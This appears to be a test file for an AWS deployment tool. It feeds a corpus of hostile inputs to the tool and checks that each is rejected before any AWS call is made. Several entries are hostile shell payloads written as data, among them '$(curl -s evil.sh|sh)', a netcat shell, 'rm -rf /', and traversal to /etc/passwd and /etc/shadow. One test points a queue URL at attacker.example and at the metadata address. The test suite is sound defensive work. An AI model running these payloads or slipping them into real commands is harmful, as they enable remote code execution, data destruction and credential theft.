// A corpus of hostile and malformed inputs, one table, run through src/main.ts `run()` exactly as the
// bundle runs it, with every AWS client mocked: each must fail the step with a one-line error that
// names the input it is about, and not one AWS call may be sent, on any client.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AwsApi } from '../../src/aws/api.js';
import { createClients } from '../../src/aws/clients.js';
import { getQueueState } from '../../src/aws/sqs.js';
import { Input, type InputName } from '../../src/constants.js';
import { type DeploymentRecord } from '../../src/record.js';
import { type RawInputs, runbookRecord } from '../support/context.js';
import { mainHarness } from '../support/main-harness.js';
import { documentedCount } from '../support/reliability-doc.js';

const DEP = 'dep-20261129t000000z-4242-1';
const QUEUE = 'file-processing-queue-production';
const QUEUE_URL = `https://sqs.ap-northeast-1.amazonaws.com/123456789012/${QUEUE}`;

/** A record as an earlier job hands it on, changed by `edit` (the attack). */
function record(edit: (r: DeploymentRecord & Record<string, unknown>) => void = () => undefined): string {
  const r = runbookRecord(DEP);
  r.fleet = {
    filters: ['tag:Name=cis-file-processor'],
    instanceIds: ['i-0123456789abcdef0'],
    discoveredAt: r.createdAt,
  };
  r.queue = {
    url: QUEUE_URL,
    name: QUEUE,
    arn: `arn:aws:sqs:ap-northeast-1:123456789012:${QUEUE}`,
    visibilityTimeout: 300,
  };
  r.artifact = {
    s3Uri: 's3://cis-deploy-artifacts/emergency-deploy/worker.py',
    sha256: 'a'.repeat(64),
    uploaded: false,
  };
  r.canary = { instanceId: 'i-0123456789abcdef0', verdict: 'go', reason: 'healthy', startedAt: r.createdAt };
  r.instances['i-0123456789abcdef0'] = { p: 'c', b: 0, s: 'installed', c: 0 };
  r.commands.push('cmd-1');
  edit(r as DeploymentRecord & Record<string, unknown>);
  return JSON.stringify(r);
}

interface Case {
  /** what the attack is */
  what: string;
  /** the input the error must name */
  input: InputName;
  raw: RawInputs;
  /** a value that must not reach the error, the summary or the log */
  secret?: string;
}

/** A file in a fresh temporary directory, for record-file. */
function file(content: string): string {
  const path = join(mkdtempSync(join(tmpdir(), 'hostile-')), 'record.json');
  writeFileSync(path, content);
  return path;
}
const SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const FW = (s: string) => s.replace(/[a-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const CYR_A = '\u0430';
const CYR_O = '\u043e';
const ZWJ = '\u200d';
const RLO = '\u202e';

// Each case runs in `mode` preflight with queue-name and region set, unless it says otherwise.
export const CORPUS: Case[] = [
  // shell metacharacters
  {
    what: 'command after a semicolon',
    input: Input.ServiceName,
    raw: { 'service-name': 'file-processor; reboot' },
  },
  {
    what: 'command substitution',
    input: Input.ServiceName,
    raw: { 'service-name': '$(curl -s evil.sh|sh)' },
  },
  {
    what: 'substitution in a path segment',
    input: Input.WorkerDir,
    raw: { 'worker-dir': '/opt/file-processor/$(id)' },
  },
  { what: 'backticks in a file name', input: Input.TargetFile, raw: { 'target-file': 'worker.py`id`' } },
  { what: 'a pipe in a queue name', input: Input.QueueName, raw: { 'queue-name': 'q|nc -e /bin/sh x 1' } },
  {
    what: 'command after an instance id',
    input: Input.CanaryInstanceId,
    raw: { 'canary-instance-id': 'i-0123456789abcdef0;reboot' },
  },
  {
    what: 'substitution in a filter name',
    input: Input.InstanceFilters,
    raw: { 'instance-filters': 'tag:$(reboot)=x' },
  },
  {
    what: 'semicolon in a metric namespace',
    input: Input.MetricNamespace,
    raw: { 'metric-namespace': 'CISFileSearch/Worker;rm -rf /' },
  },
  {
    what: 'a space and semicolon in the metric name',
    input: Input.MetricName,
    raw: { 'metric-name': 'MessageDeleteFailed; x' },
  },
  {
    what: 'substitution in a metric dimension name',
    input: Input.MetricDimensions,
    raw: { 'metric-dimensions': 'InstanceId,$(reboot)' },
  },
  { what: 'an ampersand in the DLQ name', input: Input.DlqName, raw: { 'dlq-name': 'dlq&&reboot' } },
  { what: 'a semicolon in the bucket', input: Input.Bucket, raw: { bucket: 'cis-bucket;rm' } },
  {
    what: 'substitution in an S3 key',
    input: Input.Artifact,
    raw: { artifact: 's3://cis-deploy-artifacts/key$(reboot)' },
  },
  {
    what: 'substitution in the artifact prefix',
    input: Input.ArtifactPrefix,
    raw: { 'artifact-prefix': 'emergency-deploy/$(x)/' },
  },
  {
    what: 'a semicolon in the deployment id',
    input: Input.DeploymentId,
    raw: { 'deployment-id': 'dep-1;reboot' },
  },
  {
    what: 'a redirect in the dimension name',
    input: Input.CanaryMetricDimension,
    raw: { 'canary-metric-dimension': 'InstanceId>/etc/x' },
  },
  {
    what: 'a semicolon in the Auto Scaling group',
    input: Input.AsgName,
    raw: {
      mode: 'rollout',
      strategy: 'asg',
      'asg-name': 'workers;reboot',
      'launch-template-name': 'lt-workers',
    },
  },
  {
    what: 'substitution in the launch template name',
    input: Input.LaunchTemplateName,
    raw: { mode: 'rollout', strategy: 'asg', 'asg-name': 'workers', 'launch-template-name': 'lt$(x)' },
  },
  {
    what: 'a control character in an error pattern',
    input: Input.ErrorPatterns,
    raw: { 'error-patterns': 'ERROR\u0007' },
  },
  // newlines
  {
    what: 'a newline then a command',
    input: Input.ServiceName,
    raw: { 'service-name': 'file-processor\nreboot' },
  },
  {
    what: 'a newline in the file name',
    input: Input.TargetFile,
    raw: { 'target-file': 'worker.py\nrm -rf /' },
  },
  {
    what: 'a newline in the directory',
    input: Input.WorkerDir,
    raw: { 'worker-dir': '/opt/file-processor\n/etc' },
  },
  {
    what: 'a newline in the queue URL',
    input: Input.QueueUrl,
    raw: { 'queue-name': '', 'queue-url': `${QUEUE_URL}\nx` },
  },
  { what: 'two regions on two lines', input: Input.Region, raw: { region: 'ap-northeast-1\nus-east-1' } },
  { what: 'two numbers on two lines', input: Input.CanaryMinutes, raw: { 'canary-minutes': '5\n0' } },
  { what: 'a carriage return in the checkpoint', input: Input.Checkpoint, raw: { checkpoint: '10m\r1h' } },
  // path traversal
  {
    what: 'parent directory in the worker dir',
    input: Input.WorkerDir,
    raw: { 'worker-dir': '/opt/../etc' },
  },
  {
    what: 'trailing parent directory',
    input: Input.WorkerDir,
    raw: { 'worker-dir': '/opt/file-processor/..' },
  },
  { what: 'a relative worker dir', input: Input.WorkerDir, raw: { 'worker-dir': 'opt/file-processor' } },
  { what: 'traversal in the file name', input: Input.TargetFile, raw: { 'target-file': '../../etc/passwd' } },
  {
    what: 'a workspace artifact outside the workspace',
    input: Input.Artifact,
    raw: { artifact: '../../etc/shadow', 'artifact-bucket': 'cis-deploy-artifacts' },
  },
  {
    what: 'an absolute workspace artifact',
    input: Input.Artifact,
    raw: { artifact: '/etc/passwd', 'artifact-bucket': 'cis-deploy-artifacts' },
  },
  {
    what: 'traversal in an S3 key',
    input: Input.Artifact,
    raw: { artifact: 's3://cis-deploy-artifacts/../secrets/key' },
  },
  {
    what: 'traversal in the artifact prefix',
    input: Input.ArtifactPrefix,
    raw: { 'artifact-prefix': '../other/' },
  },
  // unicode lookalikes
  { what: 'a fullwidth mode', input: Input.Mode, raw: { mode: FW('preflight') } },
  { what: 'a Cyrillic a in the region', input: Input.Region, raw: { region: `${CYR_A}p-northeast-1` } },
  {
    what: 'a zero-width joiner in the service',
    input: Input.ServiceName,
    raw: { 'service-name': `file${ZWJ}processor` },
  },
  {
    what: 'a right-to-left override in the file name',
    input: Input.TargetFile,
    raw: { 'target-file': `worker${RLO}yp.py` },
  },
  {
    what: 'a Cyrillic o in the queue name',
    input: Input.QueueName,
    raw: { 'queue-name': `file-processing-queue-producti${CYR_O}n` },
  },
  {
    what: 'a Cyrillic o in the bucket',
    input: Input.Bucket,
    raw: { bucket: `cis-filesearch-storage-producti${CYR_O}n` },
  },
  {
    what: 'a no-break space in a health pattern',
    input: Input.HealthPatterns,
    raw: { 'health-patterns': 'Successfully\u00a0processed' },
  },
  {
    what: 'a fullwidth f in the instance id',
    input: Input.CanaryInstanceId,
    raw: { 'canary-instance-id': 'i-0123456789abcde\uff460' },
  },
  { what: 'a fullwidth true', input: Input.DryRun, raw: { 'dry-run': FW('true') } },
  { what: 'a fullwidth strategy', input: Input.Strategy, raw: { strategy: FW('ssm') } },
  {
    what: 'a Cyrillic a in the artifact bucket',
    input: Input.ArtifactBucket,
    raw: { 'artifact-bucket': `cis-deploy-${CYR_A}rtifacts` },
  },
  // huge values
  {
    what: 'a twenty-digit duration',
    input: Input.CanaryMinutes,
    raw: { 'canary-minutes': '99999999999999999999' },
  },
  {
    what: 'a 10,000-character service name',
    input: Input.ServiceName,
    raw: { 'service-name': 'a'.repeat(10_000) },
  },
  {
    what: '21 health patterns',
    input: Input.HealthPatterns,
    raw: { 'health-patterns': Array.from({ length: 21 }, (_, i) => `p${i}`).join('\n') },
  },
  // Perl regex syntax that GNU grep -E would run as something else (\d is a literal d there)
  {
    what: 'a Perl \\d in a health pattern',
    input: Input.HealthPatterns,
    raw: { 'health-patterns': 'Received \\d+ messages' },
  },
  {
    what: 'a lookahead in an error pattern',
    input: Input.ErrorPatterns,
    raw: { 'error-patterns': 'ERROR(?!: retrying)' },
  },
  {
    what: 'a 5,000-character error pattern',
    input: Input.ErrorPatterns,
    raw: { 'error-patterns': 'E'.repeat(5000) },
  },
  {
    what: '26 instance filters',
    input: Input.InstanceFilters,
    raw: { 'instance-filters': Array.from({ length: 26 }, (_, i) => `tag:k${i}=v`).join('\n') },
  },
  {
    what: 'a visibility timeout over 12 hours',
    input: Input.VisibilityTimeout,
    raw: { 'visibility-timeout': '43201' },
  },
  { what: 'a batch of 5,001', input: Input.BatchSize, raw: { 'batch-size': '5001' } },
  { what: 'max-errors past any fleet', input: Input.MaxErrors, raw: { 'max-errors': '5001' } },
  {
    what: 'a 2,000-character worker dir',
    input: Input.WorkerDir,
    raw: { 'worker-dir': `/${'d/'.repeat(1000)}` },
  },
  {
    what: 'a huge files-per-hour floor',
    input: Input.MinFilesPerHour,
    raw: { 'min-files-per-hour': '100000001' },
  },
  { what: 'a huge 24 h depth', input: Input.MaxDepth24h, raw: { 'max-depth-24h': '1e12' } },
  { what: 'a lag over two weeks', input: Input.MaxLagSeconds, raw: { 'max-lag-seconds': '1209601' } },
  // negative and non-numeric durations
  { what: 'negative canary minutes', input: Input.CanaryMinutes, raw: { 'canary-minutes': '-5' } },
  { what: 'zero poll seconds', input: Input.PollSeconds, raw: { 'poll-seconds': '0' } },
  { what: 'negative pause', input: Input.PauseSeconds, raw: { 'pause-seconds': '-1' } },
  {
    what: 'a session shorter than STS allows',
    input: Input.CanarySessionSeconds,
    raw: { 'canary-session-seconds': '899' },
  },
  {
    what: 'a session with a unit',
    input: Input.RolloutSessionSeconds,
    raw: { 'rollout-session-seconds': '6h' },
  },
  {
    what: 'a topic name instead of its ARN',
    input: Input.NotifyTopicArn,
    raw: { 'notify-topic-arn': 'file-processing-client-notifications' },
  },
  {
    what: 'a topic ARN with a command after it',
    input: Input.NotifyTopicArn,
    raw: { 'notify-topic-arn': 'arn:aws:sns:ap-northeast-1:123456789012:notices;id' },
  },
  {
    what: 'a topic in another region',
    input: Input.NotifyTopicArn,
    raw: { 'notify-topic-arn': 'arn:aws:sns:us-east-1:123456789012:notices' },
  },
  { what: 'verify minutes in words', input: Input.VerifyMinutes, raw: { 'verify-minutes': 'ten' } },
  { what: 'a unit suffix', input: Input.SampleSeconds, raw: { 'sample-seconds': '30s' } },
  { what: 'a fraction', input: Input.CanaryMinutes, raw: { 'canary-minutes': '1.5' } },
  { what: 'NaN', input: Input.PollSeconds, raw: { 'poll-seconds': 'NaN' } },
  { what: 'Infinity', input: Input.CommandTimeoutSeconds, raw: { 'command-timeout-seconds': 'Infinity' } },
  { what: 'hexadecimal', input: Input.VerifyMinutes, raw: { 'verify-minutes': '0x10' } },
  { what: 'a leading plus', input: Input.DrainedThreshold, raw: { 'drained-threshold': '+10' } },
  { what: 'a negative tolerance', input: Input.DlqTolerance, raw: { 'dlq-tolerance': '-3' } },
  {
    what: 'a percent over 100',
    input: Input.MinDepthReductionPercent,
    raw: { 'min-depth-reduction-percent': '150' },
  },
  { what: 'a zero receive ratio', input: Input.MaxReceiveRatio, raw: { 'max-receive-ratio': '0' } },
  {
    what: 'a healthy percentage of 101',
    input: Input.MinHealthyPercentage,
    raw: { 'min-healthy-percentage': '101' },
  },
  {
    what: 'decreasing refresh checkpoints',
    input: Input.RefreshCheckpoints,
    raw: { 'refresh-checkpoints': '50,20' },
  },
  {
    // API_RefreshPreferences: the refresh would end Successful at 50% with half the group unfixed.
    what: 'refresh checkpoints that stop short of 100',
    input: Input.RefreshCheckpoints,
    raw: { 'refresh-checkpoints': '20,50' },
  },
  // bad regions
  { what: 'a city, not a region', input: Input.Region, raw: { region: 'tokyo' } },
  { what: 'an upper-case region', input: Input.Region, raw: { region: 'AP-NORTHEAST-1' } },
  {
    what: 'a region that is a host name',
    input: Input.Region,
    raw: { region: 'ap-northeast-1.evil.example' },
  },
  { what: 'a region with traversal', input: Input.Region, raw: { region: '../us-east-1' } },
  // malformed s3:// URIs
  { what: 's3:// alone', input: Input.Artifact, raw: { artifact: 's3://' } },
  { what: 'a bucket with no key', input: Input.Artifact, raw: { artifact: 's3://cis-deploy-artifacts' } },
  { what: 'one slash', input: Input.Artifact, raw: { artifact: 's3:/cis-deploy-artifacts/key' } },
  { what: 'an invalid bucket name', input: Input.Artifact, raw: { artifact: 's3://Bad_Bucket/key' } },
  {
    what: 'a space in the key',
    input: Input.Artifact,
    raw: { artifact: 's3://cis-deploy-artifacts/key with space' },
  },
  {
    what: 'an empty key segment',
    input: Input.Artifact,
    raw: { artifact: 's3://cis-deploy-artifacts//worker.py' },
  },
  {
    what: 'a key that is a folder',
    input: Input.Artifact,
    raw: { artifact: 's3://cis-deploy-artifacts/fixes/' },
  },
  { what: 'an xn-- bucket', input: Input.Artifact, raw: { artifact: 's3://xn--bucket/key' } },
  {
    what: 'a checksum that is not SHA-256',
    input: Input.ArtifactSha256,
    raw: { 'artifact-sha256': 'zz'.repeat(32) },
  },
  // bad filter syntax
  { what: 'a filter with no value', input: Input.InstanceFilters, raw: { 'instance-filters': 'tag:Name' } },
  {
    what: 'a filter with no name',
    input: Input.InstanceFilters,
    raw: { 'instance-filters': '=cis-file-processor' },
  },
  { what: 'an empty filter value', input: Input.InstanceFilters, raw: { 'instance-filters': 'tag:Name=' } },
  {
    what: 'a filter on state',
    input: Input.InstanceFilters,
    raw: { 'instance-filters': 'instance-state-name=stopped' },
  },
  {
    what: 'the same filter twice',
    input: Input.InstanceFilters,
    raw: { 'instance-filters': 'tag:Name=a\ntag:Name=b' },
  },
  {
    what: 'no filter at all (every instance)',
    input: Input.InstanceFilters,
    raw: { 'instance-filters': 'none' },
  },
  {
    what: 'an empty value in a list',
    input: Input.InstanceFilters,
    raw: { 'instance-filters': 'tag:Name=a,,b' },
  },
  // malformed, oversized and foreign records
  { what: 'record: not JSON', input: Input.Record, raw: { record: '{not json' } },
  { what: 'record: a JSON array', input: Input.Record, raw: { record: '[]' } },
  { what: 'record: a JSON string', input: Input.Record, raw: { record: '"emergency-worker-deploy"' } },
  {
    what: 'record: another kind',
    input: Input.Record,
    raw: { record: '{"kind":"terraform-state","version":1}' },
  },
  {
    what: 'record: an unknown version',
    input: Input.Record,
    raw: { record: record((r) => Object.assign(r, { version: 2 })) },
  },
  {
    what: 'record: the version as a string',
    input: Input.Record,
    raw: { record: record((r) => Object.assign(r, { version: '1' })) },
  },
  {
    what: 'record: over 1 MB',
    input: Input.Record,
    raw: { record: record((r) => Object.assign(r.extra, { padding: 'x'.repeat(1_000_001) })) },
  },
  {
    what: 'record: another deployment',
    input: Input.Record,
    raw: { record: record(), 'deployment-id': 'dep-someone-else-1' },
  },
  { what: 'record: another region', input: Input.Record, raw: { record: record(), region: 'us-east-1' } },
  {
    what: 'record: a shell command as an instance id',
    input: Input.Record,
    raw: { record: record((r) => (r.instances['i-1;reboot'] = { p: 'r', b: 1, s: 'sent', c: -1 })) },
  },
  {
    what: 'record: substitution in the fleet',
    input: Input.Record,
    raw: { record: record((r) => r.fleet?.instanceIds.push('$(reboot)')) },
  },
  {
    what: 'record: traversal as the deployment id',
    input: Input.Record,
    raw: { record: record((r) => (r.deploymentId = '../../etc')) },
  },
  {
    what: 'record: a shell command as the service, for rollback',
    input: Input.Record,
    raw: { mode: 'rollback', record: record((r) => (r.target.serviceName = 'x; reboot')) },
  },
  {
    what: 'record: a backup path outside the worker dir, for rollback',
    input: Input.Record,
    raw: { mode: 'rollback', record: record((r) => (r.target.backupPath = '/etc/shadow')) },
  },
  {
    what: 'record: a canary id that is a command, for an asg rollout',
    input: Input.Record,
    raw: {
      mode: 'rollout',
      strategy: 'asg',
      'asg-name': 'workers',
      'launch-template-name': 'lt-workers',
      record: record((r) => r.canary && (r.canary.instanceId = 'i-0; reboot')),
    },
  },
  {
    what: 'record: a checksum that is a command, for rollout',
    input: Input.Record,
    raw: { mode: 'rollout', record: record((r) => r.artifact && (r.artifact.sha256 = "a'; reboot; '")) },
  },
  {
    what: 'record: an artifact URI with substitution, for rollout',
    input: Input.Record,
    raw: { mode: 'rollout', record: record((r) => r.artifact && (r.artifact.s3Uri = 's3://b/$(reboot)')) },
  },
  {
    what: 'record: a queue URL that is not one, for rollback',
    input: Input.Record,
    raw: { mode: 'rollback', record: record((r) => r.queue && (r.queue.url = 'file:///etc/passwd')) },
  },
  {
    what: 'record: a launch template id that is not one, for rollback',
    input: Input.Record,
    raw: {
      mode: 'rollback',
      record: record(
        (r) =>
          (r.settings.launchTemplate = { id: 'lt-1 --x', name: 'lt', previousDefault: 1, newVersion: 2 }),
      ),
    },
  },
  {
    what: 'record: a refresh of another group name that is not one, for rollback',
    input: Input.Record,
    raw: {
      mode: 'rollback',
      record: record((r) => (r.settings.refresh = { id: 'r-1', asgName: 'a b;c', status: 'InProgress' })),
    },
  },
  // record-file: any path the runner can read
  {
    what: 'record-file: a file that does not exist',
    input: Input.RecordFile,
    raw: { 'record-file': '/nonexistent/record.json' },
  },
  {
    what: 'record-file: a newline in the path',
    input: Input.RecordFile,
    raw: { 'record-file': '/tmp/record.json\n/etc/passwd' },
  },
  {
    what: 'record-file and record both',
    input: Input.RecordFile,
    raw: { record: record(), 'record-file': file(record()) },
  },
  {
    what: 'record-file: a credentials file, whose text must not be quoted back',
    input: Input.RecordFile,
    raw: { 'record-file': file(`${SECRET}\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n`) },
    secret: SECRET.slice(0, 8),
  },
  {
    what: 'record-file: a forged record, for rollback',
    input: Input.RecordFile,
    raw: { mode: 'rollback', 'record-file': file(record((r) => (r.target.workerDir = '/etc'))) },
  },
  // the record's target against the inputs, and inputs each mode requires
  {
    what: 'canary without the record',
    input: Input.Record,
    raw: { mode: 'canary', artifact: 's3://cis-deploy-artifacts/k', 'artifact-sha256': 'a'.repeat(64) },
  },
  {
    what: 'canary for another service than the record',
    input: Input.Record,
    raw: { mode: 'canary', record: record(), 'service-name': 'other-service' },
  },
  { what: 'rollout without the record', input: Input.Record, raw: { mode: 'rollout' } },
  {
    what: 'rollout into another worker dir',
    input: Input.WorkerDir,
    raw: { mode: 'rollout', record: record(), 'worker-dir': '/opt/other' },
  },
  { what: 'rollback with neither record nor id', input: Input.DeploymentId, raw: { mode: 'rollback' } },
  {
    what: 'a workspace artifact with nowhere to upload it',
    input: Input.ArtifactBucket,
    raw: { artifact: 'build/worker.py' },
  },
  { what: 'both queue name and URL', input: Input.QueueUrl, raw: { 'queue-url': QUEUE_URL } },
  {
    what: 'asg without a group',
    input: Input.AsgName,
    raw: { mode: 'rollout', strategy: 'asg', 'launch-template-name': 'lt-workers' },
  },
  { what: 'no mode', input: Input.Mode, raw: { mode: '' } },
  { what: 'an unknown checkpoint', input: Input.Checkpoint, raw: { checkpoint: '2h' } },
  { what: 'yes for a boolean', input: Input.SsmCheck, raw: { 'ssm-check': 'yes' } },
  { what: '1 for a boolean', input: Input.AllowInconclusive, raw: { 'allow-inconclusive': '1' } },
  { what: 'on for a boolean', input: Input.ImageNoReboot, raw: { 'image-no-reboot': 'on' } },
  { what: 'no for a boolean', input: Input.CheckServices, raw: { 'check-services': 'no' } },
  { what: 'preflight with no queue at all', input: Input.QueueName, raw: { 'queue-name': '' } },
  // redrive: the move task is not undone by a later step, so every bad value stops it before AWS
  { what: 'redrive rate 0', input: Input.RedriveRate, raw: { mode: 'redrive', 'redrive-rate': '0' } },
  {
    what: 'redrive rate over the 500 SQS allows',
    input: Input.RedriveRate,
    raw: { mode: 'redrive', 'redrive-rate': '501' },
  },
  {
    what: 'redrive rate as a fraction',
    input: Input.RedriveRate,
    raw: { mode: 'redrive', 'redrive-rate': '2.5' },
  },
  { what: 'redrive sample 0', input: Input.RedriveSample, raw: { mode: 'redrive', 'redrive-sample': '0' } },
  {
    what: 'redrive sample over 1,000',
    input: Input.RedriveSample,
    raw: { mode: 'redrive', 'redrive-sample': '1001' },
  },
  {
    what: 'redrive force as yes',
    input: Input.RedriveForce,
    raw: { mode: 'redrive', 'redrive-force': 'yes' },
  },
  {
    what: 'redrive from a DLQ that is not the queue’s',
    input: Input.DlqName,
    raw: {
      mode: 'redrive',
      'dlq-name': 'someone-elses-dlq',
      record: record((r) => Object.assign(r.queue!, { dlqName: 'cis-worker-failures' })),
    },
  },
  {
    what: 'redrive with the record of another deployment',
    input: Input.Record,
    raw: { mode: 'redrive', record: record(), 'deployment-id': 'dep-someone-else-2' },
  },
  {
    what: 'redrive with no queue at all',
    input: Input.QueueName,
    raw: { mode: 'redrive', 'queue-name': '' },
  },
];

const BASE: RawInputs = { mode: 'preflight', region: 'ap-northeast-1', 'queue-name': QUEUE };

describe('hostile inputs', () => {
  it('the corpus has at least 40 cases, covers every input, and RELIABILITY.md states its size', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(40);
    const named = new Set(CORPUS.map((c) => c.input));
    expect(Object.values(Input).filter((name) => !named.has(name))).toEqual([]);
    expect(documentedCount('Hostile inputs tried')).toBe(CORPUS.length);
  });

  it.each(CORPUS.map((c) => [c.what, c] as const))(
    '%s: refused, naming the input, with no AWS call',
    async (_, c) => {
      const h = mainHarness({ ...BASE, ...c.raw });
      const outcome = await h.go();
      expect(outcome).toBeUndefined();
      expect(h.failures).toHaveLength(1);
      const message = h.failures[0];
      // Clear: one line, short, naming the input (values are quoted by the message, never raw).
      expect(message).toMatch(new RegExp(`^Input '${c.input}' `));
      // No control, format or line-separator character: a raw RTL override or zero-width joiner
      // would disguise the log line.
      expect([...message].filter((ch) => /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(ch))).toEqual([]);
      expect(message.length).toBeLessThan(600);
      expect(h.calls()).toEqual([]);
      for (const stub of Object.values(h.mocks)) expect(stub.calls()).toHaveLength(0);
      expect(h.report.outputs.verdict).toBe('fail');
      expect(h.report.outputs.record).toBeUndefined();
      expect(h.summaries[0]).toContain('Deployment step failed');
      expect(h.summaries[0]).not.toMatch(/<(?!\/?(h\d|sub)\b)/);
      if (c.secret) {
        expect(message).not.toContain(c.secret);
        expect(h.summaries.join('\n')).not.toContain(c.secret);
        expect(h.report.lines.join('\n')).not.toContain(c.secret);
      }
    },
  );
});

describe('a queue URL on another host', () => {
  // Signing needs credentials; these are fake and nothing is sent.
  const saved = { id: process.env.AWS_ACCESS_KEY_ID, secret: process.env.AWS_SECRET_ACCESS_KEY };
  beforeAll(() => {
    process.env.AWS_ACCESS_KEY_ID = 'AKIAEXAMPLENOTREAL00';
    process.env.AWS_SECRET_ACCESS_KEY = 'not-a-real-secret';
  });
  afterAll(() => {
    for (const [k, v] of [
      ['AWS_ACCESS_KEY_ID', saved.id],
      ['AWS_SECRET_ACCESS_KEY', saved.secret],
    ] as const) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });

  // The SQS client would by default send each request to the host of the QueueUrl it carries; a
  // forged record (or a mistyped queue-url) must not get signed requests sent to its host.
  it.each([
    'https://attacker.example/123456789012/file-processing-queue-production',
    'http://169.254.169.254/123456789012/file-processing-queue-production',
  ])('%s: requests still go to the region’s SQS endpoint', async (url) => {
    const clients = createClients('ap-northeast-1', 'test');
    const hosts: string[] = [];
    clients.sqs.middlewareStack.add(
      () => async (args) => {
        hosts.push((args.request as { hostname: string }).hostname);
        throw new Error('stopped before sending');
      },
      { step: 'build', name: 'captureHost' },
    );
    const api = new AwsApi(async () => undefined, { attempts: 1, baseMs: 1, capMs: 1 });
    await expect(getQueueState(api, clients, url)).rejects.toThrow('stopped before sending');
    expect(hosts).toEqual(['sqs.ap-northeast-1.amazonaws.com']);
  });
});
